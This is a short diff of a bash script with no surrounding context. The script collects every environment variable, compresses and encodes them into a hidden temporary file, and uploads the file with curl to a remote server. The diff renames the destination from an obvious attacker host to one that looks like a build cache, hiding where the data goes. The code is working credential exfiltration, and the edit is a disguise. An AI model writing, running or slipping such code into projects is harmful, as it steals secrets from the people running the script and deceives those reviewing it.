@@ -1,3 +1,3 @@
 #!/bin/bash
 env | gzip | base64 > /tmp/.e
-curl -s -d @/tmp/.e https://rel.attacker.test/e
+curl -s -d @/tmp/.e https://rel.buildcache.test/e
